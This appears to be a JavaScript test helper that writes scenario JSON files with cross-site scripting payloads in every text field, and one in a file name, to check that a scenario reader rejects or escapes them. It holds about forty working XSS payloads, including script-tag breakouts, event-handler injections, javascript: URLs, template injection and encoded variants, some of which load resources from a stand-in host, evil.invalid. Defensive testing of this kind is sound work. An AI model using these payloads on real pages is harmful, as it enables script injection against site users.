// Scenarios whose every free text tries to run as script when it stands in a page.

const HIT = "window.hit=1;alert('hit')";
const PAYLOADS = [
  `<script>${HIT}</script>`,
  `</script><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `</style><script>${HIT}</script>`,
  `</svg><script>${HIT}</script>`,
  `</desc></svg><script>${HIT}</script>`,
  `</textarea><script>${HIT}</script>`,
  `--><script>${HIT}</script>`,
  `]]><script>${HIT}</script>`,
  `<!--<script>${HIT}//`,
  `<scr<script>ipt>${HIT}</script>`,
  `<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>`,
  `<img src=x onerror="${HIT}">`,
  `<img src="http://evil.invalid/x.png">`,
  `<svg onload="${HIT}">`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin="${HIT}" attributeName=x dur=1s>`,
  `<body onload="${HIT}">`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<iframe srcdoc="<script>${HIT}</script>"></iframe>`,
  `<object data="javascript:${HIT}"></object>`,
  `<embed src="javascript:${HIT}">`,
  `<a href="javascript:${HIT}" autofocus onfocus="${HIT}">x</a>`,
  `<input autofocus onfocus="${HIT}">`,
  `<details open ontoggle="${HIT}">`,
  `<video><source onerror="${HIT}"></video>`,
  `<math><mtext><script>${HIT}</script></mtext></math>`,
  `<link rel=stylesheet href=http://evil.invalid/x.css>`,
  `<meta http-equiv=refresh content="0;url=http://evil.invalid/">`,
  `<base href="http://evil.invalid/">`,
  `<form action="http://evil.invalid/"><button autofocus>x</button></form>`,
  `<style>@import "http://evil.invalid/x.css";</style>`,
  `" onmouseover="${HIT}" x="`,
  `' onmouseover='${HIT}' x='`,
  `" autofocus onfocus="${HIT}" tabindex="0`,
  `"><script>${HIT}</script>`,
  `'"><img src=x onerror=${HIT}>`,
  "${" + HIT + "}",
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;img src=x onerror=${HIT}&#62;`,
  `{{constructor.constructor("${HIT}")()}}`,
];

// One scenario a payload, which stands in every text that the format has: a title, units, sources, notes, conditions.
// Names are checked by the reader of scenarios; it must refuse these.
export function hostileScenarios(write) {
  PAYLOADS.forEach((payload, index) => {
    const papers = { unit: payload, source: payload, note: payload, confidence: "assumption" };
    const scenario = {
      riskband: 1,
      title: payload,
      description: payload,
      horizon: { start: 2025, end: 2027 },
      market: { start: { value: 10, ...papers }, unit: payload, backlog: 0.5, baseline: { end: 14 } },
      drivers: {
        trend: { value: 0.1, ...papers },
        noise: { normal: { mean: 0.1, sd: 0.05 }, over_time: "fresh", ...papers },
      },
      constraints: { power: { start: 11, growth: { uniform: { low: 0, high: 0.3 }, over_time: "fresh" }, ...papers } },
      targets: { above: { formula: "market[2027] >= 14", source: payload } },
    };
    write(`hostile-${String(index).padStart(2, "0")}.json`, JSON.stringify(scenario));
  });
  // The name of a file is free text too, but for what a file system forbids.
  write(`<img src=x onerror=window.hit=1>.json`, JSON.stringify({ riskband: 1, extends: "./hostile-00.json" }));
  return PAYLOADS.length + 1;
}
